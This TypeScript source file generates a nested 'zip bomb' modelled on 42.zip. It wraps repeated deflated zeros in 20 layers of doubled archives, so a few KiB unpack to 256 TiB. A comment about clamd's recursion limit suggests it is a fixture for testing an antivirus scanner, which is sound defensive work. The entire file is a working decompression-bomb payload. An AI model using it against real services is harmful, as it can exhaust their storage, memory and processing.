import { constants, crc32, deflateRawSync } from 'node:zlib';
import { deflated, type ZipEntry, zip } from './zip.ts';

const MIB = 1024 * 1024;
const ZEROS_MIB = 256;
const COPIES = 2;
/** More than clamd's MaxRecursion, which it therefore reaches in seconds and not after gigabytes. */
const LAYERS = 20;

/** Built as 42.zip is: archives in archives, at last of zeros. A few KiB that unpack to 256 TiB. */
export function zipBomb(): Buffer {
  let archive = zip([zeros('zeros.dat')]);
  for (let layer = 0; layer < LAYERS; layer += 1) {
    const inner = deflated('', archive);
    archive = zip(Array.from({ length: COPIES }, (_, copy) => ({ ...inner, name: `${layer}-${copy}.zip` })));
  }
  return archive;
}

/** Deflated once for one MiB and repeated: a full flush makes each block stand for itself (zlib manual). */
function zeros(name: string): ZipEntry {
  const mib = Buffer.alloc(MIB);
  const block = deflateRawSync(mib, { finishFlush: constants.Z_FULL_FLUSH, level: 9 });
  const last = deflateRawSync(Buffer.alloc(0));
  const body = Buffer.concat([...Array.from({ length: ZEROS_MIB }, () => block), last]);
  let crc = 0;
  for (let count = 0; count < ZEROS_MIB; count += 1) crc = crc32(mib, crc);
  return { name, method: 8, crc, size: ZEROS_MIB * MIB, body };
}
